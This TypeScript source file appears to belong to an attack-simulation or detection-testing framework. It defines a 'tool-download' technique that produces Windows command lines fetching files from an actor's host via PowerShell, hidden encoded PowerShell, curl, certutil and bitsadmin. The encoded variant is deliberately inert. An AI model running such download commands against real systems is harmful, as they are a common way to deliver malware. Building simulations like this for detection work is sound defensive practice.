import { toolConnects, toolDropsImage } from "../../windows/tool-acts.ts";
import { POWERSHELL, SYSTEM32, type RunningTool } from "../../windows/tool.ts";
import { endpointOf, urlOf } from "../actor-habits.ts";
import { encodeInertText } from "../inert-encoding.ts";
import { choiceParameter, chosen } from "../parameters.ts";
import { toolTechnique, textOf, textParameter } from "../tool-technique.ts";

const MEANS = ["powershell", "powershell-encoded", "curl", "certutil", "bitsadmin"] as const;

/** A program of Windows fetches something from a host of the actor's. */
export const toolDownload = toolTechnique({
  name: "tool-download",
  lookAlike: {
    by: "system/chores/agent-update",
    table: "DeviceProcessEvents",
    column: "ProcessCommandLine",
    shows: "Invoke-WebRequest https?://",
  },
  summary: "Fetches a file from the actor's host with a program of Windows.",
  attack: ["T1105", "T1059.001"],
  parameters: [
    choiceParameter("by", MEANS, "Program that fetches.", true),
    textParameter("path", "Path in the address, e.g. `/a.png`."),
    textParameter("output", "Where it is put; left out, it is not written to disk."),
  ],
  yields: ["remote", "path"],
  decide(context) {
    const endpoint = endpointOf(context.actor, "download");
    return { remote: endpoint.name === "" ? endpoint.ip : endpoint.name, path: textOf(context, "output", "") };
  },
  source: "Red Canary (Sapphire Pigeon); SigmaHQ download rules; ESET IoC list",
  tools(_world, context) {
    const { step, actor, values } = context;
    const endpoint = endpointOf(actor, "download");
    const url = urlOf(endpoint, textOf(context, "path", "/update.png"));
    const output = values["path"] ?? "";
    const acts = (tool: RunningTool): void => {
      toolConnects(tool, endpoint);
      if (output !== "") toolDropsImage(tool, output, 0.9);
    };
    const runsMs = context.draws.between(900, 6_500);
    switch (chosen(step.parameters["by"], MEANS, "powershell")) {
      case "powershell":
        return [{ path: POWERSHELL, line: `powershell -nop -c Invoke-WebRequest ${url} -OutFile ${output}`, runsMs, acts }];
      case "powershell-encoded":
        return [{ path: POWERSHELL, line: `powershell -w hidden -enc ${encodeInertText("the download is withheld")}`, runsMs, acts }];
      case "curl":
        return [{ path: `${SYSTEM32}\\curl.exe`, line: `curl ${output === "" ? "" : `-o ${output} `}${url}`, runsMs, acts }];
      case "certutil":
        return [{ path: `${SYSTEM32}\\certutil.exe`, line: `certutil -urlcache -split -f ${url} ${output}`, runsMs, acts }];
      case "bitsadmin":
        return [{ path: `${SYSTEM32}\\bitsadmin.exe`, line: `bitsadmin /transfer job /download ${url} ${output}`, runsMs, acts }];
    }
  },
});
